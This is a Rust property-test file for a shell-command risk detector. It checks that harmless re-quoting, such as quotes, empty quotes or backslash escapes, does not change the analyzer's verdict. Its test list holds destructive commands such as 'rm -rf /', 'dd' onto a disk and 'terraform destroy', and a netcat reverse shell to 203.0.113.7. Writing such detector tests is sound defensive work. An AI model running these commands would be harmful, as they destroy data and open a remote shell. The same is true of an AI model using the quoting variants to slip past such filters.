//! Property tests: normalisation is idempotent and harmless re-quoting changes nothing.

use portcullis_detect_shell::analyze;
use proptest::prelude::*;

/// Commands whose words are plain (no quotes, no expansions), dangerous and benign.
const COMMANDS: &[&str] = &[
    "ls -la src",
    "git status",
    "cargo test -p portcullis-types",
    "rm -rf target",
    "kubectl get pods -A",
    "git push origin feature",
    "docker compose up -d",
    "rm -rf /",
    "sudo rm -rf /home/alice",
    "git push --force origin main",
    "dd if=/dev/zero of=/dev/sda",
    "kubectl delete namespace prod",
    "terraform destroy -auto-approve",
    "chmod -R 777 /",
    "shutdown -h now",
    "find / -delete",
    "git reset --hard HEAD",
    "nc -e /bin/sh 203.0.113.7 4444",
];

/// Quote one word in a way that does not change its value.
fn requote(word: &str, how: u8) -> String {
    match how % 5 {
        0 => format!("'{word}'"),
        1 => format!("\"{word}\""),
        2 => {
            let mut chars = word.chars();
            match chars.next() {
                Some(c) => format!("{c}''{}", chars.as_str()),
                None => "''".to_owned(),
            }
        }
        3 => word
            .chars()
            .map(|c| {
                if c.is_ascii_alphanumeric() {
                    format!("\\{c}")
                } else {
                    c.to_string()
                }
            })
            .collect(),
        _ => word.to_owned(),
    }
}

fn codes(cmd: &str) -> Vec<String> {
    let mut v: Vec<String> = analyze(cmd).findings.into_iter().map(|f| f.code).collect();
    v.sort();
    v.dedup();
    v
}

proptest! {
    #[test]
    fn requoting_keeps_the_verdict(index in 0..COMMANDS.len(), hows in proptest::collection::vec(any::<u8>(), 8)) {
        let cmd = COMMANDS[index];
        let requoted: Vec<String> = cmd
            .split(' ')
            .zip(hows.iter().cycle())
            .map(|(w, h)| requote(w, *h))
            .collect();
        let requoted = requoted.join(" ");
        prop_assert_eq!(codes(cmd), codes(&requoted), "{} vs {}", cmd, requoted);
    }

    #[test]
    fn command_names_normalise_idempotently(name in "[a-z./_-]{1,12}", how in any::<u8>()) {
        let first = analyze(&requote(&name, how));
        if let Some(c) = first.commands.first() {
            let again = analyze(&format!("'{}'", c.name.replace('\'', "")));
            if let Some(c2) = again.commands.first() {
                prop_assert_eq!(&c.name, &c2.name);
            }
        }
    }

    #[test]
    fn analyze_never_panics(input in "\\PC{0,200}") {
        let a = analyze(&input);
        prop_assert!(a.findings.iter().all(|f| f.risk <= 100));
    }

    #[test]
    fn analyze_is_deterministic(index in 0..COMMANDS.len()) {
        prop_assert_eq!(analyze(COMMANDS[index]), analyze(COMMANDS[index]));
    }
}
